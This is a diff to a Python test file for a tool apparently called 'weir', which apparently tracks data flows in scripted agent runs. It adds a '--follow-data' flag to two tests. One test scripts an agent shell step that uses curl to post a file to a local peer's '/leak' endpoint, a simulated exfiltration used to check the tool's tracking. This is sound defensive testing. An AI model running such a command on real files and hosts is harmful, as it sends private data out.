@@ -31,7 +31,7 @@ def secrets_followed(world):
                      says(shell(f"curl -s --data-binary @harmless {url}/leak; echo $? > leak.done")),
                      says("done"))
         world.guard()
-        run = world.go(weir_arguments=("--json", "--allow", f"localhost:{peer.port}"))
+        run = world.go(weir_arguments=("--json", "--follow-data", "--allow", f"localhost:{peer.port}"))
         world.expect(run.code == 0, f"the run ended with {run.code}: {(run.err + run.out).strip()[-300:]}")
         world.expect(world.made("leak.done").exists(), f"nothing was tried: {world.heard()}")
         asked = peer.requests()
@@ -50,7 +50,7 @@ def pages_followed(world):
     with world.peer() as peer:
         world.script(says(shell(f"curl -s http://localhost:{peer.port}/page > page; ./tool page notes.md; ./tool README plain")), says("done"))
         world.guard()
-        run = world.go(weir_arguments=("--json", "--allow", f"localhost:{peer.port}"))
+        run = world.go(weir_arguments=("--json", "--follow-data", "--allow", f"localhost:{peer.port}"))
         world.expect(run.code == 0, f"the run ended with {run.code}: {(run.err + run.out).strip()[-300:]}")
         files = [json.loads(line)["path"] for line in world.weir("flow", "files", "--json").out.splitlines()]
     names = {path.rsplit("/", 1)[-1] for path in files}
